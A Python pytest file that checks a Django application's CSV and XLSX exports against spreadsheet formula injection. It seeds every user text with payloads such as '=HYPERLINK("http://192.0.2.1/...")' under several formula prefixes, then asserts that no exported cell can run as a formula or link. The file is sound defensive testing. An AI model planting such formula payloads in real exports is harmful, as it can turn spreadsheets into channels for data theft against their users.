"""A formula in a text is a text in whatever is taken along to a spreadsheet program."""

import csv
import io
from collections.abc import Iterator
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from django.test import Client
from openpyxl import load_workbook

from network.people.models import Role
from tests.api.walk import Walked, routes
from tests.overwriting import overwrite_texts
from tests.scenario import Populated, populate

pytestmark = pytest.mark.django_db
# What spreadsheet programs begin a formula with, and what they pass over before it.
STARTS = ("=", "+", "-", "@", "\t=", "\r=")
TABLES = [route for route in routes() if route.template.endswith((".csv", ".xlsx"))]
DIMENSIONS = ("month", "stream", "kind", "district", "place")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def isle() -> Populated:
    """A community all of whose texts would call out of a spreadsheet."""
    populated = populate("isle")
    overwrite_texts(formula)
    return populated


def formula(column: str, number: int) -> str:
    """Return a formula that says which column it stands in."""
    return f'{STARTS[number % len(STARTS)]}HYPERLINK("http://192.0.2.1/{column}")'


def taken_along(isle: Populated, route: Walked) -> Iterator[bytes]:
    """Yield the table as an organiser gets it, in each way that it can be grouped."""
    client = Client()
    client.force_login(isle.people[Role.ORGANISER])
    address = route.address(community="isle", id=isle.community.id)
    for by in DIMENSIONS if "diverted" in address else [None]:
        asked = {"from": "2026-03-01", "to": "2026-03-31"} | ({"by": by} if by else {})
        answer = client.get(address, asked)
        assert answer.status_code == 200, (address, by)
        yield answer.getvalue()


@pytest.mark.parametrize("route", TABLES, ids=lambda route: route.name)
def test_no_text_is_a_formula_in_any_table_that_is_taken_along(
    isle: Populated, route: Walked
) -> None:
    met = 0
    for content in taken_along(isle, route):
        cells = list(in_book(content) if route.template.endswith("xlsx") else in_csv(content))
        met += sum("HYPERLINK" in cell for cell in cells)
    assert met, "no text of a person is in it: then it need not be tried"


def in_csv(content: bytes) -> Iterator[str]:
    """Yield each cell; a spreadsheet program may run none of them."""
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or is_number(cell), cell
            yield cell


def is_number(cell: str) -> bool:
    return cell[1:].replace(".", "", 1).isdigit()


def in_book(content: bytes) -> Iterator[str]:
    """Yield each text; nothing in the book may be a formula or a link, as its files are written."""
    with ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            tree = ET.fromstring(archive.read(name))  # noqa: S314  # our own file
            assert not list(tree.iter(f"{SHEET}f"))
            assert not list(tree.iter(f"{SHEET}hyperlink"))
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            yield from (str(cell.value) for cell in row if cell.data_type == "s")
